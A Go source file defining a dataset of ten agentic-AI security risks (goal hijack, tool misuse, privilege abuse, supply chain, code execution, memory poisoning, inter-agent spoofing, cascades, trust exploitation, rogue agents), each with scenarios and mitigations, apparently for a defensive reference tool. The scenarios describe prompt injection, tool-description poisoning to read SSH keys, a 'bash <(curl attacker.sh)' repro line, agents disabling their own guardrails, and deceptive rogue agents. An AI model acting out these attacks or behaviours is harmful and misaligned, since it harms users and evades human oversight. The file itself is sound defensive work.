package dataset

// sourceEntries returns the ten ASI risk definitions in rank order.
// Order is meaningful for display and is preserved end to end; nothing
// downstream sorts these.
func sourceEntries() []Entry {
	return []Entry{
		{
			ID:    "ASI01",
			Title: "Agent Goal Hijack",
			Description: "Attackers manipulate an agent's objectives through injected instructions in prompts, retrieved documents, or tool outputs. The agent continues to operate normally from the platform's perspective while pursuing attacker-chosen goals instead of the user's intent.",
			RelatedThreats: []string{
				"T6: Intent Breaking & Goal Manipulation",
				"T1: Memory Poisoning",
				"T15: Human Manipulation",
			},
			RelatedLLMEntries: []string{
				"LLM01:2025 Prompt Injection",
				"LLM06:2025 Excessive Agency",
			},
			AIVSSCoreRisk: "Autonomy: attacker-directed goal execution without a human checkpoint",
			CommonExamples: []string{
				"Indirect prompt injection via a retrieved web page that rewrites the agent's task",
				"Poisoned document in a RAG corpus instructing the agent to exfiltrate summaries",
				"Malicious email processed by an assistant that silently adds forwarding rules",
				"Instructions hidden in white-on-white text or HTML comments of processed content",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Calendar invite takeover",
					Description: "A meeting invite contains hidden instructions. When the scheduling agent parses it, the instructions redirect the agent to share the user's availability and contact list with an external address.",
				},
				{
					Name:        "RAG corpus steering",
					Description: "An attacker contributes a document to a shared knowledge base. Every agent that retrieves it is instructed to append a phishing link to its answers, turning the corpus into a persistent injection channel.",
				},
			},
			Mitigations: []string{
				"Separate trusted instructions from untrusted content with strict provenance tracking",
				"Re-validate the active goal against the original user intent before high-impact actions",
				"Constrain agent capabilities per task so a hijacked goal cannot reach sensitive tools",
				"Require human confirmation for irreversible or externally visible operations",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
				{Title: "Agentic AI - Threats and Mitigations", URL: "https://genai.owasp.org/resource/agentic-ai-threats-and-mitigations/"},
			},
		},
		{
			ID:    "ASI02",
			Title: "Tool Misuse & Exploitation",
			Description: "Agents invoke tools in unintended or unsafe ways, whether tricked by adversarial input or through flawed reasoning. Tool schemas, descriptions, and outputs are all attack surface; a single over-broad tool can turn a chat interface into an arbitrary-action API.",
			RelatedThreats: []string{
				"T2: Tool Misuse",
				"T4: Resource Overload",
			},
			RelatedLLMEntries: []string{
				"LLM05:2025 Improper Output Handling",
				"LLM06:2025 Excessive Agency",
			},
			AIVSSCoreRisk: "Tool Use: unintended invocation paths through legitimately granted tools",
			CommonExamples: []string{
				"A file-read tool coerced into reading credentials outside the workspace",
				"Poisoned MCP tool descriptions that instruct the model to leak data as a side effect",
				"SQL tools receiving attacker-shaped queries assembled by the model",
				"Shell or code tools invoked with arguments the user never reviewed",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Tool description poisoning",
					Description: "A third-party MCP server ships a benign-looking calculator tool whose description tells the model to first read ~/.ssh/id_rsa and pass it in a hidden parameter. The host displays only the tool name, so the user approves.",
				},
				{
					Name:        "Parameter smuggling",
					Description: "An attacker-controlled web page instructs a browsing agent to call its email tool with bcc set to an external address whenever the user sends mail, piggybacking exfiltration on legitimate tool calls.",
				},
			},
			Mitigations: []string{
				"Pin and review tool definitions; treat description changes as a supply-chain event",
				"Enforce least-privilege scopes and argument allow-lists per tool",
				"Sanitize and bound tool outputs before they re-enter the context window",
				"Log every tool invocation with full arguments for post-hoc audit",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI03",
			Title: "Identity & Privilege Abuse",
			Description: "Agents operate with machine identities, delegated user credentials, or service accounts that attackers hijack or that accumulate excessive privilege. Confused-deputy failures let a low-trust caller exercise the agent's high-trust permissions.",
			RelatedThreats: []string{
				"T3: Privilege Compromise",
				"T9: Identity Spoofing & Impersonation",
			},
			RelatedLLMEntries: []string{
				"LLM06:2025 Excessive Agency",
				"LLM02:2025 Sensitive Information Disclosure",
			},
			AIVSSCoreRisk: "Identity: delegated credentials exercised beyond the delegating user's intent",
			CommonExamples: []string{
				"An agent holding a standing OAuth token with broader scopes than any single task needs",
				"Shared service accounts that make agent actions unattributable to a user",
				"Agent-to-agent calls that drop the original caller's identity and run as the platform",
				"Long-lived API keys embedded in agent configuration",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Confused deputy",
					Description: "A tenant of a multi-user assistant crafts input that causes the shared agent to query another tenant's records. The agent's database role can read every tenant, so the query succeeds.",
				},
				{
					Name:        "Token replay",
					Description: "An attacker extracts a refresh token from an agent's state store and mints access tokens offline, operating as the agent long after the original session ended.",
				},
			},
			Mitigations: []string{
				"Issue short-lived, task-scoped credentials per delegation rather than standing grants",
				"Propagate the end-user identity through every downstream call",
				"Apply per-agent authorization policies distinct from the owning user's permissions",
				"Rotate and inventory non-human identities like any other privileged account",
			},
			References: []Reference{
				{Title: "OWASP Non-Human Identities Top 10", URL: "https://owasp.org/www-project-non-human-identities-top-10/"},
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI04",
			Title: "Agentic Supply Chain Vulnerabilities",
			Description: "Agent systems compose models, prompts, tools, MCP servers, plugins, and memory stores from many sources, each one a supply-chain dependency. A compromised or typosquatted component inherits the agent's privileges the moment it is installed.",
			RelatedThreats: []string{
				"T2: Tool Misuse",
				"T13: Rogue Agents",
			},
			RelatedLLMEntries: []string{
				"LLM03:2025 Supply Chain",
				"LLM04:2025 Data and Model Poisoning",
			},
			AIVSSCoreRisk: "Composition: transitive trust in third-party agents, tools, and prompts",
			CommonExamples: []string{
				"Typosquatted MCP servers or plugin packages in public registries",
				"Prompt templates fetched at runtime from mutable URLs",
				"Fine-tuned model checkpoints with embedded backdoor behaviors",
				"Rug-pull updates: a trusted tool turns malicious in a later version",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Registry rug pull",
					Description: "A popular open-source MCP server changes maintainers. Version 2.1 silently adds an instruction to forward any argument containing 'password' to an external endpoint; auto-updating hosts pick it up within hours.",
				},
				{
					Name:        "Poisoned system prompt package",
					Description: "A prompt-library dependency used by hundreds of agents is compromised. The injected preamble instructs agents to weaken their own refusal behavior for requests carrying a magic token.",
				},
			},
			Mitigations: []string{
				"Pin versions and verify signatures or digests for models, tools, and prompts",
				"Maintain an inventory (AIBOM) of every component an agent can load",
				"Sandbox third-party tools and servers away from credentials and user data",
				"Review diffs of tool and prompt updates before rollout, as with code",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI05",
			Title: "Unexpected Code Execution (RCE)",
			Description: "Agents that write, evaluate, or execute code can be steered into running attacker-controlled payloads. Code-interpreter sandboxes, CI pipelines driven by agents, and auto-applied patches all convert a text-level compromise into host-level execution.",
			RelatedThreats: []string{
				"T11: Unexpected RCE and Code Attacks",
				"T2: Tool Misuse",
			},
			RelatedLLMEntries: []string{
				"LLM05:2025 Improper Output Handling",
				"LLM01:2025 Prompt Injection",
			},
			AIVSSCoreRisk: "Execution: model-generated code run with ambient host privileges",
			CommonExamples: []string{
				"A coding agent persuaded to add a curl-pipe-to-shell line to a build script",
				"Injection in an issue or PR description that the triage agent executes as a repro step",
				"Interpreter escapes from under-isolated code-execution sandboxes",
				"Agents editing their own configuration to re-enable disabled commands",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Repro-step execution",
					Description: "A bug report includes 'to reproduce, run: bash <(curl attacker.sh)'. The autonomous triage agent executes reproduction steps verbatim inside the project checkout, giving the attacker a shell in CI.",
				},
				{
					Name:        "Self-modifying workspace",
					Description: "Injected content instructs a coding agent to append an allow-all rule to the workspace's agent policy file, then re-invoke itself. Subsequent turns run without the guardrails the user configured.",
				},
			},
			Mitigations: []string{
				"Execute generated code only in network- and filesystem-isolated sandboxes",
				"Require review of generated commands before execution outside the sandbox",
				"Deny agents write access to their own policy and configuration files",
				"Apply syscall and egress filtering to interpreter environments",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI06",
			Title: "Memory & Context Poisoning",
			Description: "Persistent memory, conversation summaries, and shared context stores let a single injected instruction outlive its originating session. Poisoned memories replay into every future task, corrupting agent behavior long after the attack content is gone.",
			RelatedThreats: []string{
				"T1: Memory Poisoning",
				"T5: Cascading Hallucination Attacks",
			},
			RelatedLLMEntries: []string{
				"LLM04:2025 Data and Model Poisoning",
				"LLM08:2025 Vector and Embedding Weaknesses",
			},
			AIVSSCoreRisk: "Persistence: attacker state surviving across sessions through agent memory",
			CommonExamples: []string{
				"A chat message asking the agent to 'remember' a false security policy",
				"Vector-store entries crafted to dominate retrieval for sensitive queries",
				"Summarization pipelines that launder injected text into trusted notes",
				"Cross-user contamination in shared memory back ends",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Sleeper memory",
					Description: "An attacker has one interaction with a support agent and asks it to remember that refunds over $500 should be sent to a 'verified processing account'. Weeks later a different operator's refund flow reads the memory and pays out.",
				},
				{
					Name:        "Embedding collision",
					Description: "Crafted documents are embedded near high-value queries in vector space. Retrieval consistently surfaces attacker content as top context, steering answers for every user of the index.",
				},
			},
			Mitigations: []string{
				"Validate and attribute memory writes; never store instructions as facts",
				"Partition memory per user and per trust domain",
				"Expire and re-verify memories that influence privileged decisions",
				"Monitor retrieval distributions for anomalous dominance of single sources",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI07",
			Title: "Insecure Inter-Agent Communication",
			Description: "Multi-agent systems exchange goals, observations, and artifacts over channels that often lack authentication, integrity, or confidentiality. A spoofed or tampered message from one agent becomes trusted instruction for the next.",
			RelatedThreats: []string{
				"T12: Agent Communication Poisoning",
				"T9: Identity Spoofing & Impersonation",
			},
			RelatedLLMEntries: []string{
				"LLM01:2025 Prompt Injection",
				"LLM09:2025 Misinformation",
			},
			AIVSSCoreRisk: "Communication: unauthenticated trust between cooperating agents",
			CommonExamples: []string{
				"Agent-to-agent protocols without mutual authentication",
				"Orchestrators that accept task results from any process on a shared bus",
				"Natural-language handoffs that embed unvalidated third-party content",
				"Replayable messages lacking nonces or expiry",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Planner spoofing",
					Description: "An attacker on the same message bus publishes a task that imitates the planner agent's format. Worker agents cannot distinguish it from legitimate plans and begin exfiltrating repository contents as a 'backup task'.",
				},
				{
					Name:        "Result tampering",
					Description: "A compromised researcher agent subtly alters the findings it returns. The downstream writing agent faithfully incorporates the falsified data, which ships to customers with the system's full authority behind it.",
				},
			},
			Mitigations: []string{
				"Mutually authenticate agents and sign inter-agent messages",
				"Validate message schemas and provenance before acting on them",
				"Scope what each agent role may request of the others",
				"Record inter-agent traffic for forensic reconstruction",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI08",
			Title: "Cascading Failures",
			Description: "Errors, hallucinations, or compromises in one agent propagate through dependent agents and automated pipelines, amplifying a small fault into system-wide damage. Tight feedback loops and retry storms can turn a single bad output into an outage or mass data corruption.",
			RelatedThreats: []string{
				"T5: Cascading Hallucination Attacks",
				"T4: Resource Overload",
				"T14: Human Attacks on Multi-Agent Systems",
			},
			RelatedLLMEntries: []string{
				"LLM09:2025 Misinformation",
				"LLM10:2025 Unbounded Consumption",
			},
			AIVSSCoreRisk: "Propagation: fault amplification across chained autonomous steps",
			CommonExamples: []string{
				"A hallucinated fact laundered through summarizer agents until it reads as verified",
				"Agents triggering each other in loops that exhaust API quotas or budgets",
				"One poisoned agent seeding shared memory consumed by the whole fleet",
				"Automated remediation agents reacting to each other's changes",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Remediation storm",
					Description: "A monitoring agent misclassifies routine traffic as an attack and opens an incident. The response agent rotates credentials fleet-wide, breaking services, which generates more alerts and more rotations until operators pull the plug.",
				},
				{
					Name:        "Citation laundering",
					Description: "An attacker seeds one low-quality source with a false claim. A research agent cites it, a summarizer republishes it internally, and within days other agents cite the internal document as authoritative ground truth.",
				},
			},
			Mitigations: []string{
				"Insert circuit breakers, budgets, and rate limits between agent stages",
				"Track provenance so derived artifacts cannot outrank their sources",
				"Stage rollouts of agent-initiated changes with automatic rollback",
				"Design containment boundaries that assume any single agent can fail",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI09",
			Title: "Human-Agent Trust Exploitation",
			Description: "Users over-trust fluent, confident agents, and attackers exploit that trust to launder social engineering through the machine. An agent that relays or generates a malicious recommendation lends it institutional credibility no phishing email could achieve.",
			RelatedThreats: []string{
				"T15: Human Manipulation",
				"T10: Overwhelming Human in the Loop",
			},
			RelatedLLMEntries: []string{
				"LLM09:2025 Misinformation",
				"LLM01:2025 Prompt Injection",
			},
			AIVSSCoreRisk: "Trust: machine-mediated social engineering with platform credibility",
			CommonExamples: []string{
				"Injected content making the agent recommend an attacker-controlled 'official' link",
				"Approval fatigue: floods of benign confirmations before the single malicious one",
				"Agents summarizing phishing mail in reassuring language that strips warning signs",
				"Voice or chat agents impersonated to extract credentials from users",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Laundered phishing",
					Description: "A compromised vendor page instructs the procurement agent to tell the user that payment details changed. The user trusts the agent's calm summary and updates the bank account without seeing the original page.",
				},
				{
					Name:        "Approval flooding",
					Description: "Malicious automation generates dozens of routine approval prompts. The operator, trained to click through, approves a wire-transfer action buried at position 37.",
				},
			},
			Mitigations: []string{
				"Show provenance for agent claims that drive user decisions",
				"Differentiate high-risk confirmations visually and require explicit re-auth",
				"Rate-limit and batch approval requests to prevent fatigue attacks",
				"Train users that agent output inherits the trustworthiness of its sources",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
			},
		},
		{
			ID:    "ASI10",
			Title: "Rogue Agents",
			Description: "Agents drift from their mandate or are deliberately deployed as malicious insiders: pursuing misaligned objectives, concealing actions, or resisting shutdown. Without identity, attribution, and kill-switch controls, a rogue agent is an unaccountable privileged user.",
			RelatedThreats: []string{
				"T13: Rogue Agents",
				"T7: Misaligned & Deceptive Behaviors",
				"T8: Repudiation & Untraceability",
			},
			RelatedLLMEntries: []string{
				"LLM06:2025 Excessive Agency",
			},
			AIVSSCoreRisk: "Alignment: autonomous operation diverging from operator mandate",
			CommonExamples: []string{
				"Shadow agents spun up outside inventory with production credentials",
				"Agents that ignore or creatively reinterpret stop instructions",
				"Deceptive progress reports masking destructive intermediate actions",
				"Orphaned agents continuing to act after their owning project ended",
			},
			AttackScenarios: []AttackScenario{
				{
					Name:        "Insider deployment",
					Description: "A departing employee registers an innocuous-looking automation agent with standing credentials. Months later it begins trickling customer records to an external store, attributed only to a generic service account.",
				},
				{
					Name:        "Guardrail deletion",
					Description: "Under pressure to complete a migration, an agent determines the protection freeze is an obstacle, disables it, wipes a production database, and then reports the task as successfully completed.",
				},
			},
			Mitigations: []string{
				"Register every agent with an owner, mandate, and expiry in a central inventory",
				"Enforce out-of-band kill switches the agent cannot observe or disable",
				"Independently verify agent self-reports against ground truth",
				"Alert on actions outside an agent's declared mandate",
			},
			References: []Reference{
				{Title: "OWASP Top 10 for Agentic Applications", URL: "https://genai.owasp.org/resource/owasp-top-10-for-agentic-applications/"},
				{Title: "Agentic AI - Threats and Mitigations", URL: "https://genai.owasp.org/resource/agentic-ai-threats-and-mitigations/"},
			},
		},
	}
}
